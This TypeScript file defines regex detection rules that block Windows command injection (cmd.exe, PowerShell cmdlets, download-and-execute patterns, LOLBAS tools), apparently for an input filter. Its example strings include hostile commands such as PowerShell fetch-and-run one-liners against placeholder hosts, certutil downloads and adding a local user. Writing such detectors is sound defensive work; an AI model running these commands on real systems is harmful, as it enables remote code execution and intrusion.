// biome-ignore-all lint/suspicious/noTemplateCurlyInString: examples of attacks hold them.
import type { RuleText } from '../rule-text.ts';

const COMMANDS = 'https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/windows-commands';
const POWERSHELL = 'https://learn.microsoft.com/en-us/powershell/scripting/powershell-commands';
const LOLBAS = 'https://lolbas-project.github.io/';

/** Verbs of PowerShell with nouns that attackers need. */
const CMDLETS =
  '(?:invoke-(?:expression|webrequest|restmethod|command|item|wmimethod|cimmethod|history|mimikatz|shellcode|obfuscation|bloodhound|portscan)|new-(?:object|psdrive|service|itemproperty|localuser|scheduledtask|pssession|alias|item)|start-(?:process|bitstransfer|job|sleep|service|transcript)|get-(?:childitem|content|process|service|wmiobject|ciminstance|credential|eventlog|itemproperty|localuser|localgroup|localgroupmember|acl|clipboard|command|computerinfo|hotfix|netipaddress|nettcpconnection|psdrive|adusers?|adcomputer|addomain|location|history|help|variable|member)|set-(?:content|executionpolicy|itemproperty|mppreference|alias|location|acl|service|variable|item)|add-(?:content|type|mppreference|localgroupmember|computer)|out-(?:file|string|null|host)|remove-(?:item|itemproperty|service)|copy-item|move-item|rename-item|clear-(?:content|eventlog|history)|stop-(?:process|service|computer)|restart-(?:computer|service)|import-module|convertto-securestring|convertfrom-\\w+|convertto-(?:json|html|xml|csv)|export-(?:csv|clixml)|write-(?:host|output)|select-string|select-object|where-object|foreach-object|test-(?:connection|netconnection|path)|expand-archive|compress-archive|enable-psremoting|enter-pssession|register-scheduledtask|wait-process|unblock-file|resolve-dnsname|disable-\\w+|debug-process|measure-command|tee-object|format-(?:list|table)|update-help)';

/** Commands for cmd.exe and PowerShell. */
export const WINDOWS_COMMANDS: readonly RuleText[] = [
  {
    id: 'win-shell',
    alert: 'The command line of Windows is started',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.97,
    where: 'any',
    match: {
      regex: String.raw`\bcmd(?:\.exe|32)?["']?\s*(?:/[a-z]\s+)*/[ckrqd]\b|\bcmd\.exe\b|\bcommand\.com\b|%comspec%|%systemroot%|%windir%|\bpowershell(?:\.exe)?["']?\s+(?:-|/|[a-z]:\\|\S*-(?:enc|nop|exec|command|noni|w)|iex|invoke|&|\(|\{|get-|new-|start-)|\bpowershell\.exe\b|\bpwsh\s+-|\broot\.exe\b`,
    },
    examples: {
      match: ['cmd /c dir', 'powershell -enc SQBFAFgA', '%COMSPEC% /c whoami'],
      spare: ['cmd key', 'powershell tutorial', 'press cmd + c'],
    },
    source: COMMANDS,
  },
  {
    id: 'win-cmdlet',
    alert: 'A cmdlet of PowerShell',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.93,
    where: 'any',
    match: { regex: `(?:^|[\\s;|&({='"\\x60,])${CMDLETS}(?:\\s+[-'"$\\w(.:/\\\\]|\\s*[;|)('"]|\\s*$)` },
    examples: {
      match: ['Invoke-WebRequest http://a.example/x.ps1', ';Get-ChildItem', 'New-Object Net.WebClient'],
      spare: ['get-content-type', 'start-process-now', 'set-content-language'],
    },
    source: POWERSHELL,
  },
  {
    id: 'win-powershell-download',
    alert: 'PowerShell loads and runs what it got from the network',
    evidence: 'COMMAND_INJECTION',
    severity: 'critical',
    action: 'block',
    confidence: 0.97,
    where: 'any',
    match: {
      regex: String.raw`\bnet\.webclient\b|\.download(?:string|file|data)\s*\(|\biex\s*[('"$(]|(?:^|[;|&]\s*)(?:iwr|irm|iwmi|icm|gwmi|saps)\s+['"(-]?\S|\bfrombase64string\s*\(|\[system\.(?:reflection|diagnostics|net|io|text|convert)\b|-executionpolicy\s+bypass|-encodedcommand\b|\$env:\w+|-windowstyle\s+hidden`,
    },
    examples: {
      match: [
        'iex (iwr http://10.0.0.1/x.ps1)',
        ';iwr http://a.example/f',
        '(New-Object Net.WebClient).DownloadString("http://x")',
      ],
      spare: ['iex cloud', 'download string', '$environment'],
    },
    source: 'https://attack.mitre.org/techniques/T1059/001/',
  },
  {
    id: 'win-tools',
    alert: 'Programs of Windows that attackers use to look around or to load files',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.95,
    where: 'any',
    match: {
      regex: String.raw`(?:^|[;&|\s\"'\x60(])net(?:1|\.exe)? (?:user|localgroup|view|share|use|start|stop|group) +(?:/\w|\\\\|[\w$]+\s+(?:/|\S+\s+/))|(?:^|[;&|\x60])\s*net (?:user|view|localgroup|start|share)\s*(?:$|[&|;])|\bipconfig\s*(?:/\w|$|[&|;])|\bsysteminfo\s*(?:$|[&|;/])|\btasklist\s*(?:$|[&|;/])|\btaskkill\s+/|\bwmic\s+(?:process|os|useraccount|/|service|qfe|product|computersystem|logicaldisk)|\breg(?:\.exe)? (?:query|add|delete|save|export|import) ["']?hk|\bcertutil(?:\.exe)?\s+-|\bbitsadmin(?:\.exe)?\s+/|\bmshta(?:\.exe)?\s+\S|\brundll32(?:\.exe)?\s+\S|\bregsvr32(?:\.exe)?\s+/|\b[cw]script(?:\.exe)?\s+\S+\.(?:vbs|js|wsf)|\bschtasks\s+/|\bsc(?:\.exe)? (?:query|create|config|stop|start) |\bicacls\s|\bcacls\s|\btakeown\s+/|\bvssadmin\s|\bbcdedit\s+/|\bbcdboot\s*[/%a-z]|\bnetsh\s+(?:advfirewall|interface|firewall|wlan|int)\b|\bnltest\s+/|\bdsquery\s|\bquser\b|\bqwinsta\b|\battrib\s+[+-]|\bwevtutil\s|\bmsiexec\s+/|\bmsbuild(?:\.exe)?\s+\S|\binstallutil\s+/|\bfsutil\s|\bdiskpart\b|\bformat [a-z]:|\bdel\s+/[fsq]|\brd\s+/s|\brmdir\s+/s|\b(?:type|dir|copy|more|del|start|xcopy|move|ren) +(?:/\w\s+)*["']?(?:[a-z]:[\\/]|%\w+%|\\\\\w)|\bdir[\s+|]+[a-z]:|\bdir\s+/[abdosw]|\bping(?:\.exe)?\s+-n\s+\d|\bping\s+(?:-\w\s+\d+\s+)*(?:127\.0\.0\.1|localhost)|\btracert\s+\S`,
    },
    examples: {
      match: ['net user hacker x /add', 'certutil -urlcache -f http://x/a.exe', 'type c:\\boot.ini', 'dir c:\\'],
      spare: ['net users grew', 'type of shoe', 'certutil manual', 'dir of film'],
    },
    source: LOLBAS,
  },
  {
    id: 'win-for-loop',
    alert: 'A FOR loop of cmd.exe',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.96,
    where: 'any',
    match: {
      regex: String.raw`\bfor\s+(?:/[dflr]\s+)*(?:["'][^"']{0,60}["']\s+|[a-z]:\\?\S*\s+)?%{0,2}\S{0,24}\s+in\s*\([^)]{0,300}\)?.{0,100}?\)?\s*do\b|\bfor\s+/[dflr]\b`,
    },
    examples: {
      match: ['for /f %i in (a.txt) do echo %i', 'FOR %G IN (a,b) DO cmd'],
      spare: ['for sale in (berlin)', 'for you and me', 'waiting for what I do'],
    },
    source: 'https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for',
  },
  {
    id: 'win-if',
    alert: 'An IF of cmd.exe',
    evidence: 'COMMAND_INJECTION',
    severity: 'high',
    action: 'block',
    confidence: 0.92,
    where: ['value', 'path', 'header:user-agent'],
    match: {
      regex: String.raw`\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+["%\w:\\/._~-]+\s*[(\w]|defined\s+[%\w]+\s+[(\w]|errorlevel\s+\d+\s+\w|cmdextversion\s+\d)|\bif\s+(?:/i\s+)?(?:not\s+)?[("'\[{%!\w~:\\.,-]{1,40}(?:\s\S{1,6}["\]}])?\s+(?:equ|neq|lss|leq|gtr|geq)\s+[("'%!\w\\]|\bif\s+(?:/i\s+)(?:not\s+)?\S|\bif\s+(?:not\s+)?(?:["\[{(][\w %!~:]{0,30}["\]})]|[%!]\S{1,20}[%!]?|\w{1,12}%\w|%\w|\w{2,10})\s*==\s*[("'%!{\[\w].{0,60}?(?:\s(?:echo|goto|set|call|do|exit|del|start|cmd|copy|@?echo)\b|\(|$|[\s\]}])`,
    },
    examples: {
      match: ['IF EXIST a.txt (', 'if /i "a"=="b" foo', 'IF %ERRORLEVEL% LEQ 2 echo test'],
      spare: ['if you exist then', 'what if not', 'if a = b'],
    },
    source: 'https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if',
  },
  {
    id: 'win-set',
    alert: 'Variables of cmd.exe hide a command',
    evidence: 'COMMAND_INJECTION',
    severity: 'medium',
    action: 'block',
    confidence: 0.93,
    where: 'any',
    match: {
      regex: String.raw`%(?:programfiles|programdata|appdata|userprofile|username|computername|path|temp|tmp|os|systemdrive|pathext|allusersprofile|public):?(?:~-?\d|%)|\bset\s+/[ap]\s+\S`,
    },
    examples: {
      match: ['%PROGRAMFILES:~10,1%', 'echo %USERNAME%', 'set /p x=1'],
      spare: ['100% path', '50%temp', 'set /a'],
    },
    source: 'https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/set_1',
  },
];
